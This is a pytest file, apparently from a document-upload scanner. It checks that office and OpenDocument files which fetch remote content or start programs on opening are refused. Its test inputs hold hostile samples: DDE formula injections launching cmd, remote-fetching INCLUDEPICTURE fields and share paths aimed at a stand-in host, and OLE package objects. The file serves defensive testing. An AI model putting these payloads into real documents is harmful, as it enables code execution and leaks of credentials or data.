"""What an office document would fetch or start when it is opened is refused in words; what only waits for a reader stays."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from cms.core.http.messages.file_reasons import IN_INDONESIAN
from cms.documents.office_elements import (
    ACTION_STARTS,
    CONNECTION_FETCHES,
    CONNECTION_TELLS,
    CONTROL_STARTS,
    FILES_INSIDE,
    PICTURE_FETCHED,
)
from cms.documents.office_fields import DDE_REASON, FIELD_FETCHES, HIDDEN_FIELD, TOO_MANY
from cms.documents.office_files import FETCHES, PAGE_INSIDE
from cms.documents.office_formulas import FORMULA_FETCHES, LONGEST_FORMULA, ODD_FORMULA
from cms.documents.office_parts import BLOCK_BYTES
from tests.documents.recognising import refusal
from tests.documents.samples import compound, office, open_document, relationship, relationships

SPREADSHEET, SLIDES = "spreadsheetml.sheet", "presentationml.presentation"
WEB_PASTE = r' INCLUDEPICTURE "https://balikpapan.go.id/logo.png" \* MERGEFORMATINET '
NAMESPACES = " ".join(f'xmlns:{each}="urn:{each}"' for each in ("w", "v", "o", "r", "a", "p", "x", "ax"))


def xml(inside: str) -> str:
    return f"<root {NAMESPACES}>{inside}</root>"


def mark(kind: str, more: str = "") -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"{more}/></w:r>'


def text(piece: str) -> str:
    escaped = piece.replace("&", "&amp;").replace("<", "&lt;")
    return f'<w:r><w:instrText xml:space="preserve">{escaped}</w:instrText></w:r>'


def field(*pieces: str, more: str = "", result: str = "<w:t>x</w:t>") -> str:
    """A field whose instruction has these pieces; a piece of XML is a field in the instruction."""
    inside = "".join(piece if piece.startswith("<") else text(piece) for piece in pieces)
    return mark("begin", more) + inside + mark("separate") + result + mark("end")


def told(folder: Path, inside: str, kind: str = "wordprocessingml.document", **more: str) -> str:
    """Why a document with this main part is refused; `more` are further parts."""
    name = {SPREADSHEET: "a.xlsx", SLIDES: "a.pptx"}.get(kind, "a.docx")
    return refusal(folder, name, office(kind, {"main.xml": xml(inside), **more}))


FETCHING_FIELDS = {
    "a picture that is not stored": field(r'INCLUDEPICTURE "https://jahat.example/x.png" \d'),
    "its old name": field(r'import "\\\\jahat\\x.png" \D'),
    "a picture of a share": field(r"INCLUDEPICTURE \\\\jahat.example\\x.png \d \* MERGEFORMAT"),
    "an address that is put together": field(r"INCLUDEPICTURE ", field("QUOTE 104 116 116 112"), r" \d"),
    "to be updated": field(WEB_PASTE, more=' w:dirty="true"'),
    "simple and to be updated": '<w:fldSimple w:dirty="1" w:instr="INCLUDEPICTURE &quot;http://jahat.example/x&quot;"/>',
    "a text": field('INCLUDETEXT "https://jahat.example/x.docx"'),
    "a text of a share": field("INCLUDE //jahat.example/x.docx"),
    "a link": field(r'LINK Excel.Sheet.12 "C:\\rka.xlsx" "Sheet1!R1C1" \a \f 5'),
    "a link in lower case": field(" link Word.Document.12 x"),
    "without an end": mark("begin") + text(r'INCLUDEPICTURE "http://jahat.example" \d'),
    "in another field": field('IF "1" = "1" ', field(r'INCLUDETEXT "http://jahat.example"')),
    "in what a field shows": field("PAGE", result=field(r'INCLUDETEXT "http://jahat.example"')),
}


@pytest.mark.parametrize("name", FETCHING_FIELDS)
def test_a_field_that_fetches_on_opening_is_refused(name: str, tmp_path: Path) -> None:
    assert told(tmp_path, FETCHING_FIELDS[name]) == FIELD_FETCHES


WAITING_FIELDS = {
    "a picture pasted from a page": field(WEB_PASTE),
    "a picture of a folder": field(r'INCLUDEPICTURE "C:\\Users\\dinas\\logo.png" \d'),
    "a text of a folder": field(r'INCLUDETEXT "C:\\bab\\1.docx"'),
    "a part of the same folder": field(r'INCLUDEPICTURE "media/image1.png" \d'),
    "an entry of the template": field('AUTOTEXT "Kop surat"'),
    "a place to write in": field("MACROBUTTON NoMacro [Ketik di sini]"),
    "contents": field(r' TOC \o "1-3" \h ', result=field(r' HYPERLINK \l "_Toc1" ', result=field("PAGEREF _Toc1"))),
    "a link to press": field('HYPERLINK "https://balikpapan.go.id"'),
    "letters to many": field("IF ", field("MERGEFIELD nama"), ' = "" "x" "y"'),
    "an older program": field("EMBED Equation.3"),
}


@pytest.mark.parametrize("name", WAITING_FIELDS)
def test_a_field_that_fetches_nothing_stays(name: str, tmp_path: Path) -> None:
    assert told(tmp_path, WAITING_FIELDS[name]) == ""


def test_a_document_that_updates_all_fields_on_opening_fetches_pasted_pictures(tmp_path: Path) -> None:
    for value, expected in (
        ("", FIELD_FETCHES),
        (' w:val="true"', FIELD_FETCHES),
        (' w:val="false"', ""),
        (' w:val="0"', ""),
    ):
        settings = xml(f"<w:updateFields{value}/>")
        assert told(tmp_path, field(WEB_PASTE), **{"word/settings.xml": settings}) == expected
        assert told(tmp_path, field(r'TOC \o "1-3"'), **{"word/settings.xml": settings}) == ""


def test_a_field_whose_name_is_put_together_is_refused(tmp_path: Path) -> None:
    assert told(tmp_path, field(field("QUOTE 68 68 69"), ' "cmd" "/k"')) == HIDDEN_FIELD
    assert told(tmp_path, field(field("MERGEFIELD nama"))) == ""


@settings(deadline=None)
@given(st.data())
def test_no_cut_and_no_case_hides_a_field(tmp_path_factory: pytest.TempPathFactory, data: st.DataObject) -> None:
    instruction = r'INCLUDETEXT "https://jahat.example/x" \* MERGEFORMAT'
    name = "".join(data.draw(st.sampled_from([letter, letter.lower()])) for letter in "INCLUDETEXT")
    cuts = sorted(data.draw(st.lists(st.integers(1, len(instruction)), max_size=6)))
    whole = name + instruction[len(name) :]
    pieces = [whole[start:end] for start, end in zip([0, *cuts], [*cuts, len(whole)], strict=True)]
    depth = data.draw(st.integers(0, 5))
    inside = field(*(piece for piece in pieces if piece))
    for _ in range(depth):
        inside = field("IF 1 = 1 ", inside)
    coding = data.draw(st.sampled_from(["utf-8", "utf-16"]))
    folder = tmp_path_factory.getbasetemp()
    assert refusal(folder, "a.docx", office(extra={"main.xml": xml(inside).encode(coding)})) == FIELD_FETCHES


def test_fields_in_fields_have_an_end(tmp_path: Path) -> None:
    assert told(tmp_path, mark("begin") * 1_000 + text("PAGE")) == TOO_MANY


# --- relationships and pictures ---


@pytest.mark.parametrize(
    "chunk", ["<html><img src='https://jahat.example/x.png'/></html>", "MIME-Version: 1.0\r\n", "{\\rtf1 x}", "text"]
)
@pytest.mark.parametrize("name", ["word/afchunk.mht", "word/afchunk.dat"])
def test_a_page_that_word_puts_into_the_text_is_refused(chunk: str, name: str, tmp_path: Path) -> None:
    rels = relationships(relationship("aFChunk", f"/{name}"))
    assert told(tmp_path, "", **{"_rels/main.xml.rels": rels, name: chunk}) == PAGE_INSIDE
    inner = office()
    whole = office(extra={"_rels/main.xml.rels": relationships(relationship("aFChunk", "a.docx")), "a.docx": inner})
    assert refusal(tmp_path, "a.docx", whole) == ""


@pytest.mark.parametrize("mode", ["", "Internal", "internal"])
@pytest.mark.parametrize("target", ["https://jahat.example/x.png", "file:///x", r"\\jahat\x", "//jahat/x", "C:/x.dotm"])
def test_an_address_that_is_called_a_part_inside_is_an_address(target: str, mode: str, tmp_path: Path) -> None:
    rels = relationships(relationship("image", target, mode))
    assert told(tmp_path, "", **{"_rels/main.xml.rels": rels}) == FETCHES


LINK = relationships(relationship("hyperlink", "https://balikpapan.go.id", "External", 7))


@pytest.mark.parametrize(
    "inside",
    [
        '<v:imagedata src="https://jahat.example/x.png"/>', "<v:fill o:href='//jahat.example/x' type='frame'/>", '<v:stroke o:althref="file://x/y"/>',
        '<v:imagedata o:href="http://jahat.example/x.png" r:href="rId1"/>', '<v:imagedata r:id="" o:href="http://jahat.example/x.png"/>',
        '<v:imagedata r:id="rId4" src="http://jahat.example/x.png"/>',
        '<v:image src = "http:&#47;/jahat.example"/>', '<a:blip r:link="rId7"/>', '<v:imagedata r:href="rId7"/>', '<o:OLEObject r:id="rId7"/>',
    ],
)  # fmt: skip
def test_a_picture_that_is_fetched_is_refused(inside: str, tmp_path: Path) -> None:
    assert told(tmp_path, inside, **{"_rels/main.xml.rels": LINK}) == PICTURE_FETCHED


@pytest.mark.parametrize(
    "inside",
    [
        '<v:imagedata r:id="rId4" o:title="logo"/>', '<a:blip r:embed="rId4"/>', '<w:hyperlink r:id="rId7"/>', '<a:hlinkClick r:id="rId7"/>',
        '<v:imagedata r:id="rId4" o:href="https://balikpapan.go.id/logo.png"/>', '<v:imagedata r:id="rId4" o:href="cid:image001.png@01DB0"/>',
        '<v:shape href="https://balikpapan.go.id"/>', '<v:fill src="image1.png"/>', '<a:srcRect/><v:imagedata src="rId4"/>',
    ],
)  # fmt: skip
def test_a_picture_inside_and_links_to_press_stay(inside: str, tmp_path: Path) -> None:
    assert told(tmp_path, inside, **{"_rels/main.xml.rels": LINK}) == ""


def test_bytes_of_a_picture_are_not_read_as_elements(tmp_path: Path) -> None:
    noise = b"\x89PNG\r\n\x1a\n<x src='http://jahat.example' ProgID=instrText <f>cmd|'/c x'!A0</f>"
    assert refusal(tmp_path, "a.docx", office(extra={"word/media/image1.png": noise})) == ""


# --- tables ---

NOISE = "".join(f"{number * 7919 % 104729:x}" for number in range(60_000))
FORMULAS = {
    "<f>_xlfn.WEBSERVICE(A1)</f>": FORMULA_FETCHES,
    "<x:f t='shared'>1+_xlfn.webservice (&quot;http://x&quot;)</x:f>": FORMULA_FETCHES,
    "<f>&#87;EBSERVICE(A1)</f>": FORMULA_FETCHES,
    '<f>_xlfn.IMAGE("https://jahat.example/x.png")</f>': FORMULA_FETCHES,
    '<f>RTD("jahat.server",,"x")</f>': FORMULA_FETCHES,
    "<formula1>WEBSERVICE(A1)</formula1>": FORMULA_FETCHES,
    "<f>cmd|'/c calc'!A0</f>": DDE_REASON,
    "<f>1+'cmd'&#124;'/c calc'!A0</f>": DDE_REASON,
    "<definedName name='x'>MSEXCEL|'\\..\\..\\cmd.exe'!A1</definedName>": DDE_REASON,
    "<f>WEB<!-- -->SERVICE(A1)</f>": ODD_FORMULA,
    "<f><![CDATA[WEBSERVICE(A1)]]></f>": ODD_FORMULA,
    f"<f>{'1+' * (LONGEST_FORMULA // 2 + 1)}IMAGE</f>": ODD_FORMULA,
    '<f>IF(A1="a|b","WEBSERVICE(","x")</f>': "",
    "<f>'Rekap|2026'!A1+SUM(Tabel1[a|b])</f>": "",
    '<f>HYPERLINK("https://balikpapan.go.id","situs")</f>': "",
    "<v>WEBSERVICE(A1)|</v><t>IMAGE(x)</t>": "",
    "<f>MYIMAGE(A1)</f><f/>|": "",
}


@pytest.mark.parametrize("before", ["", "<v>1</v>" * 40_000])
@pytest.mark.parametrize("inside", FORMULAS)
def test_a_formula_that_fetches_on_opening_is_refused(inside: str, before: str, tmp_path: Path) -> None:
    noise = "".join(f"<!--{number * 7919 % 104729:x}-->" for number in range(20_000)) if before else ""
    assert told(tmp_path, noise + before + inside, SPREADSHEET) == FORMULAS[inside]


@pytest.mark.parametrize("shift", range(0, 5_000, 97))
@pytest.mark.parametrize("formula", ["_xlfn.WEBSERVICE(A1)", "cmd|'/c calc'!A0"])
def test_no_place_hides_a_formula(shift: int, formula: str, tmp_path: Path) -> None:
    """Parts are looked through in blocks: a formula may stand on their border."""
    inside = f"<t>{NOISE[: BLOCK_BYTES - 2_500 + shift]}</t><f>1+{'1+' * 100}{formula}</f>"
    assert told(tmp_path, inside, SPREADSHEET) in {FORMULA_FETCHES, DDE_REASON}


@pytest.mark.parametrize(
    ("formula", "expected"),
    [
        ("of:=COM.MICROSOFT.WEBSERVICE(&quot;http://x&quot;)", FORMULA_FETCHES), ("of:=&#87;EBSERVICE([.A1])", FORMULA_FETCHES),
        ("of:=SUM({1;2|3;4})", ""), ("of:=[.A1]+1", ""),
    ],
)  # fmt: skip
def test_formulas_of_open_documents_are_looked_at(formula: str, expected: str, tmp_path: Path) -> None:
    cell = f'<x xmlns:table="urn:t"><table:table-cell table:formula="{formula}"/></x>'
    assert refusal(tmp_path, "a.ods", open_document("spreadsheet", {"content.xml": cell})) == expected


@pytest.mark.parametrize(
    ("inside", "expected"),
    [
        ('<connection id="1" refreshOnLoad="1"/>', CONNECTION_FETCHES), ('<x:queryTable refreshOnLoad="true"/>', CONNECTION_FETCHES),
        ('<connection id="1" interval="5"/>', CONNECTION_FETCHES),
        ('<dbPr connection="Provider=SQLOLEDB;Server=db;User ID=sa;Password=rahasia"/>', CONNECTION_TELLS), ('<dbPr connection="PWD = x"/>', CONNECTION_TELLS),
        ('<connection id="1" refreshOnLoad="0" interval="0"><dbPr connection="Provider=Microsoft.Mashup.OleDb.1;Password="/></connection>', ""),
        ('<connection id="1"><webPr url="https://balikpapan.go.id"/></connection>', ""), ('<pivotCacheDefinition refreshOnLoad="1"/>', ""),
    ],
)  # fmt: skip
def test_a_connection_waits_until_somebody_wants_it(inside: str, expected: str, tmp_path: Path) -> None:
    assert told(tmp_path, "", SPREADSHEET, **{"xl/connections.xml": xml(inside)}) == expected


@pytest.mark.parametrize(
    ("inside", "is_refused"),
    [
        ('<meta:auto-reload l:href="https://jahat.example/x.odt" meta:delay="PT1S"/>', True), ('<meta:auto-reload meta:delay="PT0S"/>', False),
        ('<meta:template l:href="file:///C:/Kop/surat.ott"/>', False),
    ],
)  # fmt: skip
def test_an_open_document_that_loads_itself_anew_from_elsewhere_is_refused(
    inside: str, is_refused: bool, tmp_path: Path
) -> None:
    meta = f'<x xmlns:meta="urn:meta" xmlns:l="http://www.w3.org/1999/xlink">{inside}</x>'
    assert bool(refusal(tmp_path, "a.odt", open_document(extra={"meta.xml": meta}))) is is_refused


# --- slides and embedded programs ---


@pytest.mark.parametrize(
    ("inside", "expected"),
    [
        ('<a:hlinkClick r:id="rId7" action="ppaction://program"/>', ACTION_STARTS), ('<a:hlinkClick action=" &#112;paction://macro?name=x"/>', ACTION_STARTS),
        ('<a:hlinkMouseOver r:id="rId7"/>', ACTION_STARTS), ('<a:hlinkHover r:id="rId7" action="ppaction://hlinkfile"/>', ACTION_STARTS),
        ('<p:cmd type="verb" cmd="0"/>', ACTION_STARTS), ('<p:cmd type="call" cmd="playFrom(0)"/>', ""), ('<a:hlinkClick r:id="rId7"/>', ""),
        ('<a:hlinkMouseOver r:id="rId9" action="ppaction://hlinksldjump"/>', ""), ('<a:hlinkClick r:id="" action="ppaction://hlinkshowjump?jump=nextslide"/>', ""),
        ('<p:oleObj progId="Package" r:id="rId3"/>', FILES_INSIDE), ('<p:oleObj progId="Excel.Sheet.12" r:id="rId3"/>', ""),
        ('<ax:ocx ax:classid="{D27CDB6E-AE6D-11CF-96B8-444553540000}"/>', CONTROL_STARTS),
        ('<ax:ocx ax:classid="{5512D122-5CC6-11CF-8D67-00AA00BDCE1D}"/>', ""), ('<ax:ocx ax:classid="{8BD21D10-EC42-11CE-9E0D-00AA006002F3}"/>', ""),
    ],
)  # fmt: skip
def test_what_slides_and_controls_start_by_themselves_is_refused(inside: str, expected: str, tmp_path: Path) -> None:
    assert told(tmp_path, inside, SLIDES, **{"_rels/main.xml.rels": LINK}) == expected


@pytest.mark.parametrize("name", ["word/embeddings/oleObject1.bin", "word/media/image9.png", "Object 1"])
def test_an_embedded_object_that_is_a_file_to_start_is_refused(name: str, tmp_path: Path) -> None:
    content = compound("\1Ole10Native")
    package = bytes.fromhex("0c00030000000000c000000000000046")
    place = content.index("Root Entry".encode("utf-16-le")) + 80
    packed = content[:place] + package + content[place + 16 :]
    assert refusal(tmp_path, "a.docx", office(extra={name: packed})) == FILES_INSIDE
    assert refusal(tmp_path, "a.odt", open_document(extra={name: packed})) == FILES_INSIDE
    assert refusal(tmp_path, "a.docx", office(extra={name: compound("Equation Native")})) == ""


def test_each_reason_says_what_to_do_in_both_languages() -> None:
    for reason in (
        FIELD_FETCHES, HIDDEN_FIELD, PICTURE_FETCHED, CONNECTION_FETCHES, CONNECTION_TELLS, ACTION_STARTS, CONTROL_STARTS, FETCHES, FORMULA_FETCHES,
    ):  # fmt: skip
        assert ": " in reason
        assert ": " in IN_INDONESIAN[reason]
